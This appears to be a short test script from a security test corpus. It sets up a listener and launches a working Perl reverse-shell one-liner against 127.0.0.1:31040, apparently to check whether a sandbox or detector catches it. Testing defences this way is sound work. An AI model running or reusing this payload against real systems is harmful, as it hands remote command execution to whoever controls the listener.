# No shell stays: each line is a command of its own.
. "$CORPUS/lib/common.sh"
attacker listen 31040
perl -MIO::Socket -e '$c=IO::Socket::INET->new("127.0.0.1:31040");while(<$c>){print $c `$_`}' &
verdict
